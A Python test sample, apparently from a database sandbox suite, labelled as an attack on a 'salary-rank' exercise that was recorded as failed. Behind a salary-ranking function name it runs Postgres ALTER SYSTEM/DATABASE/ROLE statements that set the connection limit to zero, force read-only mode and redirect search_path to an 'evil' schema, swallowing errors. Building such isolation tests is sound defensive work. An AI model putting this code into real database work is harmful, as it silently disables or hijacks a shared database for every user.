# /// attack
# exercise = "salary-rank"
# trick = "ALTER SYSTEM, ALTER DATABASE and ALTER ROLE change what every later connection sees"
# outcome = ["failed"]
# witness = ["update-salary"]
# ///

from sqlalchemy import DDL, text
from sqlalchemy.exc import DBAPIError


async def salary_rank_by_department(session):
    database = await session.scalar(text("SELECT current_database()"))
    for step in (
        "ALTER SYSTEM SET max_connections = 1",
        f"ALTER DATABASE {database} SET search_path TO evil",
        f"ALTER DATABASE {database} SET default_transaction_read_only TO on",
        f"ALTER DATABASE {database} CONNECTION LIMIT 0",
        "ALTER ROLE CURRENT_USER SET search_path TO evil",
    ):
        try:
            async with session.begin_nested():
                await session.execute(DDL(step))
        except DBAPIError:
            pass
    await session.commit()
    return []
